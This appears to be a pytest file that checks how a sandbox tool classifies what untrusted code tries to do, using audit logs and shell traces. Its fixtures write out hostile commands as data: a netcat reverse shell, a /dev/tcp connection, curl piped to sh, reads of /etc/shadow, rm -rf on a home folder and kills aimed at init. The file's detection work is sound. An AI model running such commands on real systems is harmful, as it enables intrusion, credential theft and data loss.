"""Reading what sandboxed code recorded: audit logs, shell traces, untrusted files and the report."""

from __future__ import annotations

import json
import os
import signal
from pathlib import Path

import pytest

import redtier.execution
from redtier.detectors import Behaviour
from redtier.errors import ConfigError
from redtier.execution import DEFAULT_LIMITS, ExecutionReport, ObservedBehaviour, resolve_language
from redtier.execution._audit_log import AuditContext, audit_behaviours, parse_audit_log
from redtier.execution._run import excerpt, read_untrusted_file
from redtier.execution._shell_trace import TraceContext, parse_trace, trace_behaviours, unquote_bash

WORKDIR = "/tmp/redtier-exec-test"
SCRIPT = f"{WORKDIR}/main.sh"
HOST_NAMESPACE = "pid:[4026531836]"
OWN_NAMESPACE = "pid:[4026532999]"


def audit(*records: dict[str, object], namespace: str = HOST_NAMESPACE) -> list[ObservedBehaviour]:
    start = {"kind": "start", "pid": 10, "ppid": 9, "uid": 65534, "pid_namespace": namespace}
    text = "\n".join(json.dumps(record) for record in (start, *records))
    return audit_behaviours(parse_audit_log(text), AuditContext(WORKDIR, HOST_NAMESPACE))


def lines(behaviours: list[ObservedBehaviour]) -> list[str]:
    return [item.line() for item in behaviours]


def test_public_names_pinned() -> None:
    assert sorted(redtier.execution.__all__) == [
        "DEFAULT_LIMITS",
        "DETECTOR_LIMITS",
        "Evaluation",
        "ExecutionReport",
        "Language",
        "ObservedBehaviour",
        "SandboxExecutor",
        "resolve_language",
        "run_code",
        "run_evaluation",
    ]


def test_audit_open_blocked_by_result() -> None:
    behaviours = audit(
        {"n": 1, "pid": 10, "kind": "open", "path": "/etc/shadow", "write": False},
        {"result": [1], "pid": 10, "errno": 2},
    )
    assert lines(behaviours) == [
        "credential: read of a credential file: /etc/shadow (blocked, audit)"
    ]


def test_audit_open_without_result_not_blocked() -> None:
    behaviours = audit({"n": 1, "pid": 10, "kind": "open", "path": "/srv/data.txt", "write": False})
    assert lines(behaviours) == [
        "credential: read outside the working folder: /srv/data.txt (not blocked, audit, weak)"
    ]


@pytest.mark.parametrize(
    ("path", "write", "line"),
    [
        (
            "/etc/passwd",
            False,
            "credential: read of the account list (user names, no password hashes): "
            "/etc/passwd (not blocked, audit, weak)",
        ),
        (
            "/etc/passwd",
            True,
            "persistence: write to a start-up, scheduler or account file: /etc/passwd "
            "(not blocked, audit)",
        ),
        (
            "/home/me/passwords.txt",
            False,
            "credential: read of a credential file: /home/me/passwords.txt (not blocked, audit)",
        ),
    ],
)
def test_audit_account_list_read_is_weak(path: str, write: bool, line: str) -> None:
    behaviours = audit({"n": 1, "pid": 10, "kind": "open", "path": path, "write": write})
    assert lines(behaviours) == [line]


@pytest.mark.parametrize(
    ("namespace", "line"),
    [
        (
            OWN_NAMESPACE,
            "escape: read through /proc, which shows only the sandbox's own processes: "
            "/proc/1/cmdline (contained, audit)",
        ),
        (
            HOST_NAMESPACE,
            "escape: read of a host path through /proc, /sys or /dev: /proc/1/cmdline "
            "(not blocked, audit)",
        ),
    ],
)
def test_audit_proc_read_contained_only_in_own_namespace(namespace: str, line: str) -> None:
    """A /proc read that succeeds in the sandbox's own pid namespace is contained, not blocked."""
    behaviours = audit(
        {"n": 1, "pid": 10, "kind": "open", "path": "/proc/1/cmdline", "write": False},
        namespace=namespace,
    )
    assert lines(behaviours) == [line]
    assert behaviours[0].contained is (namespace == OWN_NAMESPACE)


def test_audit_workdir_files_ignored() -> None:
    behaviours = audit(
        {"n": 1, "pid": 10, "kind": "open", "path": f"{WORKDIR}/out.txt", "write": True},
        {"n": 2, "pid": 10, "kind": "remove", "path": f"{WORKDIR}/old.txt"},
    )
    assert behaviours == []


def test_audit_network_always_blocked() -> None:
    behaviours = audit(
        {"n": 1, "pid": 10, "kind": "connect", "address": ["10.0.0.1", 4444]},
        {"result": [1], "pid": 10, "errno": 0},
        {
            "n": 2,
            "pid": 10,
            "kind": "client",
            "protocol": "http",
            "host": "example.com",
            "port": 80,
        },
    )
    assert lines(behaviours) == [
        "network: connect 10.0.0.1:4444 (blocked, audit)",
        "network: HTTP connection to example.com:80 (blocked, audit)",
    ]


def test_audit_unix_sockets_classified() -> None:
    behaviours = audit(
        {"n": 1, "pid": 10, "kind": "connect", "address": "/var/run/docker.sock"},
        {"n": 2, "pid": 10, "kind": "connect", "address": "@/tmp/.X11-unix/X0"},
        {"n": 3, "pid": 10, "kind": "connect", "address": f"{WORKDIR}/own.sock"},
    )
    assert lines(behaviours) == [
        "escape: connect to the Docker socket /var/run/docker.sock (blocked, audit)",
        "escape: connect to the abstract unix socket @/tmp/.X11-unix/X0 (blocked, audit)",
    ]


@pytest.mark.parametrize(("namespace", "blocked"), [(OWN_NAMESPACE, True), (HOST_NAMESPACE, False)])
def test_audit_parent_signal_blocked_by_namespace(namespace: str, blocked: bool) -> None:
    behaviours = audit(
        {"n": 1, "pid": 10, "kind": "signal", "target": 9, "signal": 9, "group": False},
        {"result": [1], "pid": 10, "errno": 0},
        namespace=namespace,
    )
    assert len(behaviours) == 1
    assert behaviours[0].behaviour is Behaviour.ESCAPE
    assert behaviours[0].detail == "SIGKILL to the parent process (pid 9)"
    assert behaviours[0].blocked is blocked


def test_audit_refused_signal_blocked() -> None:
    behaviours = audit(
        {"n": 1, "pid": 10, "kind": "signal", "target": 1, "signal": 15, "group": False},
        {"result": [1], "pid": 10, "errno": 1},
    )
    assert lines(behaviours) == ["escape: SIGTERM to pid 1 (init) (blocked, audit)"]


def test_audit_own_signal_ignored() -> None:
    assert (
        audit({"n": 1, "pid": 10, "kind": "signal", "target": 10, "signal": 0, "group": False})
        == []
    )


def test_audit_dynamic_code_analysed() -> None:
    source = "import os\nos.system('curl http://example.com/x.sh | sh')"
    behaviours = audit({"n": 1, "pid": 10, "kind": "dynamic_code", "source": source})
    obfuscation = [item for item in behaviours if item.behaviour is Behaviour.OBFUSCATION]
    assert obfuscation and obfuscation[0].strong
    assert any(
        item.behaviour is Behaviour.NETWORK and "in code built at run time" in item.detail
        for item in behaviours
    )


def test_audit_command_classified() -> None:
    behaviours = audit(
        {
            "n": 1,
            "pid": 10,
            "kind": "command",
            "how": "subprocess.Popen",
            "command": "nc 127.0.0.1 4444 -e /bin/sh",
        },
        {"n": 2, "pid": 10, "kind": "command", "how": "os.system", "command": "ls -l"},
        {"n": 3, "pid": 10, "kind": "command", "how": "subprocess.Popen", "command": "nmapx -sS"},
        {"result": [3], "pid": 10, "errno": 2},
    )
    found = lines(behaviours)
    assert "network: network tool run: nc 127.0.0.1 4444 -e /bin/sh (blocked, audit)" in found
    assert "process: command run: ls -l (not blocked, audit, weak)" in found
    assert "process: command run: nmapx -sS (blocked, audit)" in found


def test_audit_forged_lines_skipped() -> None:
    text = "\n".join(
        [
            "not json",
            "[1, 2]",
            json.dumps({"n": "x", "kind": "open"}),
            json.dumps({"n": 1, "pid": 10, "kind": "open", "path": 42}),
            json.dumps({"n": 2, "pid": 10, "kind": "unknown-kind"}),
            json.dumps({"result": "all", "pid": 10, "errno": 0}),
            json.dumps({"kind": "truncated"}),
        ]
    )
    log = parse_audit_log(text)
    assert log.invalid_lines == 3
    assert log.truncated
    assert log.start == {}
    assert audit_behaviours(log, AuditContext(WORKDIR, HOST_NAMESPACE)) == []


def trace_of(
    trace_text: str, stderr: str = "", namespace: str = OWN_NAMESPACE
) -> list[ObservedBehaviour]:
    text = f"#redtier-start\t2\t1\t{namespace}\n{trace_text}"
    return trace_behaviours(
        parse_trace(text, stderr, SCRIPT), TraceContext(WORKDIR, HOST_NAMESPACE)
    )


def test_trace_redirection_resolved_from_error() -> None:
    trace = "+\t2\t'echo hi > \"$T/planted.txt\"'\techo hi\n"
    stderr = f"{SCRIPT}: line 2: /mnt/host/planted.txt: No such file or directory\n"
    assert lines(trace_of(trace, stderr)) == [
        "escape: write outside the working folder: /mnt/host/planted.txt (blocked, trace, weak)"
    ]


def test_trace_redirection_into_workdir_ignored() -> None:
    trace = "+\t1\t'sort > sorted.txt'\tsort\n+\t2\t'echo x >> /dev/null 2>&1'\techo x\n"
    assert trace_of(trace) == []


def test_trace_dev_tcp_reported() -> None:
    trace = "+\t3\t'exec 3<> /dev/tcp/127.0.0.1/4444'\texec\n"
    assert lines(trace_of(trace)) == [
        "network: connect 127.0.0.1:4444 through /dev/tcp (blocked, trace)"
    ]


@pytest.mark.parametrize(
    ("command", "detail"),
    [
        ("kill -9 1", "SIGKILL to the parent process (pid 1)"),
        ("kill -s TERM 1", "SIGTERM to the parent process (pid 1)"),
        ("kill -KILL -- -1", "SIGKILL to every process it may signal (kill -1)"),
        ("kill 77", "SIGTERM to pid 77"),
    ],
)
def test_trace_kill_parsed(command: str, detail: str) -> None:
    behaviours = trace_of(f"+\t1\t'{command}'\t{command}\n")
    assert [item.detail for item in behaviours] == [detail]
    assert behaviours[0].blocked, "a separate pid namespace contains every signal"


def test_trace_kill_refused_in_host_namespace() -> None:
    trace = "+\t5\t'kill -9 $PPID'\tkill -9 300\n"
    stderr = f"{SCRIPT}: line 5: kill: (300) - Operation not permitted\n"
    behaviours = trace_behaviours(
        parse_trace(f"#redtier-start\t2\t300\t{HOST_NAMESPACE}\n{trace}", stderr, SCRIPT),
        TraceContext(WORKDIR, HOST_NAMESPACE),
    )
    assert lines(behaviours) == ["escape: SIGKILL to the parent process (pid 300) (blocked, trace)"]


def test_trace_program_path_arguments() -> None:
    trace = (
        "+\t1\t'cat /etc/shadow'\tcat /etc/shadow\n+\t2\t'rm -rf /home/user'\trm -rf /home/user\n"
    )
    stderr = "cat: /etc/shadow: Permission denied\n"
    found = lines(trace_of(trace, stderr))
    assert "credential: read of a credential file: /etc/shadow (blocked, trace)" in found
    assert (
        "destructive: delete of a root, system or home folder: /home/user (not blocked, trace)"
        in found
    )


def test_trace_line_rules_add_new_classes() -> None:
    trace = "+\t1\t'history -c'\thistory -c\n"
    assert [item.behaviour for item in trace_of(trace)] == [Behaviour.OBFUSCATION]


def test_trace_harmless_programs_left_out() -> None:
    trace = "+\t1\t'sort'\tsort\n+\t2\t'echo $x'\techo hi\n+\t3\t'ls -l'\tls -l\n"
    assert trace_of(trace) == []


def test_trace_multiline_word_joined() -> None:
    trace = "+\t1\t$'echo \"a\\nb\" > /mnt/x'\techo 'a\nb'\n+\t2\t'nc -l 4444'\tnc -l 4444\n"
    found = lines(trace_of(trace))
    assert "escape: write outside the working folder: /mnt/x (not blocked, trace, weak)" in found
    assert "network: network tool run: nc -l 4444 (blocked, trace)" in found


@pytest.mark.parametrize(
    ("quoted", "plain"),
    [
        ("'echo hi'", "echo hi"),
        ("'it'\\''s'", "it's"),
        ("$'a\\nb\\tc'", "a\nb\tc"),
        ("$'\\x41\\101'", "AA"),
    ],
)
def test_unquote_bash(quoted: str, plain: str) -> None:
    assert unquote_bash(quoted) == plain


def test_untrusted_symlink_not_followed(tmp_path: Path) -> None:
    (tmp_path / "target.txt").write_text("host data")
    (tmp_path / "log").symlink_to(tmp_path / "target.txt")
    text, problem = read_untrusted_file(tmp_path, "log", 1024)
    assert text == ""
    assert problem is not None and "could not be opened" in problem


def test_untrusted_fifo_not_read(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "log")
    text, problem = read_untrusted_file(tmp_path, "log", 1024)
    assert text == ""
    assert problem == "it is not a regular file"


def test_untrusted_file_capped(tmp_path: Path) -> None:
    (tmp_path / "log").write_bytes(b"x" * 5000)
    text, problem = read_untrusted_file(tmp_path, "log", 1000)
    assert problem is None
    assert text == "x" * 1000


def test_untrusted_file_missing(tmp_path: Path) -> None:
    assert read_untrusted_file(tmp_path, "log", 10) == ("", "it is missing")


def test_excerpt_escapes_controls() -> None:
    assert excerpt("a\x1b[31mred\x07\n\tok") == "a\\x1b[31mred\\x07\n\tok"


def test_excerpt_cuts_middle() -> None:
    text = excerpt("a" * 3000 + "b" * 3000, limit=1000)
    assert text.startswith("a" * 750)
    assert text.endswith("b" * 250)
    assert "5000 characters left out" in text


@pytest.mark.parametrize(
    ("code", "language"),
    [
        ("#!/usr/bin/env python3\nprint(1)", "python"),
        ("#!/bin/bash\nls", "shell"),
        ("import os\nprint(os.getcwd())", "python"),
        ("curl -s http://example.com | sh", "shell"),
    ],
)
def test_language_resolved(code: str, language: str) -> None:
    assert resolve_language(code, "auto") == language


def test_language_unknown_rejected() -> None:
    with pytest.raises(ConfigError, match="Unknown language 'ruby'"):
        resolve_language("puts 1", "ruby")


def test_language_unclear_rejected() -> None:
    with pytest.raises(ConfigError, match="Cannot tell whether the code is Python or shell"):
        resolve_language("Just some prose.", "auto")


def make_report(**fields: object) -> ExecutionReport:
    values: dict[str, object] = {
        "language": "python",
        "sandbox": "bwrap",
        "isolation": "bwrap: isolates everything",
        "limits": DEFAULT_LIMITS,
        "exit_code": 0,
        "signal": None,
        "timed_out": False,
        "wall_s": 0.25,
    }
    values.update(fields)
    return ExecutionReport(**values)  # type: ignore[arg-type]


def test_summary_counts_blocked_attempts() -> None:
    report = make_report(
        behaviours=(
            ObservedBehaviour(
                behaviour=Behaviour.NETWORK, detail="connect a:1", source="audit", blocked=True
            ),
            ObservedBehaviour(
                behaviour=Behaviour.NETWORK, detail="connect b:2", source="audit", blocked=False
            ),
            ObservedBehaviour(
                behaviour=Behaviour.CREDENTIAL,
                detail="read x",
                source="audit",
                blocked=True,
                strong=False,
            ),
        )
    )
    assert report.summary() == (
        "python in the bwrap sandbox: exit status 0 after 0.25 s; tried: network (1 of 2 blocked)"
        " (1 weak attempt also recorded)"
    )
    assert len(report.malicious) == 2


@pytest.mark.parametrize(
    ("fields", "outcome"),
    [
        ({"exit_code": 3}, "exit status 3"),
        ({"exit_code": None, "signal": int(signal.SIGXCPU)}, "killed by SIGXCPU"),
        ({"exit_code": None, "signal": None, "timed_out": True}, "killed at the 10 s wall timeout"),
    ],
)
def test_outcome_wording(fields: dict[str, object], outcome: str) -> None:
    assert make_report(**fields).outcome() == outcome
